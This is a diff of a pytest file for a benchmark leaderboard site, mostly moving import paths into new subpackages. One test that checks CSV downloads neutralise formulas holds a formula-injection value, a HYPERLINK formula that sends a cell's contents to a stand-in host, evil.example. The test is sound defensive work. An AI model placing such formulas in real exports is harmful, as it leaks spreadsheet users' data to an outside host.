@@ -10,9 +10,9 @@ from pathlib import Path
 
 import pytest
 
-from leaderboard.results import ModelInfo, Source, SystemResult, TaskScores
-from leaderboard.site.layout import Column, View
-from leaderboard.standings import (
+from leaderboard.submission.results import ModelInfo, Source, SystemResult, TaskScores
+from leaderboard.publish.site.layout import Column, View
+from leaderboard.publish.standings import (
     TIER_LEADER,
     Row,
     column_value,
@@ -21,7 +21,7 @@ from leaderboard.standings import (
     tier_tables,
     unit_scores,
 )
-from leaderboard.standings.downloads import csv_cell, csv_text, view_records
+from leaderboard.publish.standings.downloads import csv_cell, csv_text, view_records
 
 REPO = Path(__file__).resolve().parents[1]
 
@@ -29,7 +29,7 @@ REPO = Path(__file__).resolve().parents[1]
 @pytest.fixture(scope="module")
 def committed_board(tmp_path_factory: pytest.TempPathFactory):
     """Every view of the site built from the committed submissions and results/reported."""
-    from leaderboard.site.board import load_board
+    from leaderboard.publish.site.board import load_board
 
     return load_board(REPO, cache_dir=tmp_path_factory.mktemp("tiers"))
 
@@ -194,9 +194,9 @@ def test_csv_keeps_negative_numbers_as_numbers() -> None:
 def test_pr_comment_names_the_leader_the_site_marks() -> None:
     """Two committed systems tie exactly: the site's leader is the smaller id, and the
     comment must name that one as the previous leader, not the alphabetically first name."""
-    from leaderboard.ci.standing import CommittedResults, standing
-    from leaderboard.registry import all_tasks
-    from leaderboard.standings import rank_systems, task_column
+    from leaderboard.app.ci.standing import CommittedResults, standing
+    from leaderboard.benchmarks.registry import all_tasks
+    from leaderboard.publish.standings import rank_systems, task_column
 
     task = all_tasks()["followtable/wtr"]
     scores = {f"{i}_0": 0.1 * (i % 5) for i in range(40)}
@@ -219,7 +219,7 @@ def test_site_downloads_neutralise_formulas_and_hold_the_tests(tmp_path: Path) -
     negative score stays a number, and the tests against the leader are there."""
     import json
 
-    from leaderboard.site.render import write_downloads
+    from leaderboard.publish.site.render import write_downloads
 
     a, b = _uneven_pair()
     hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
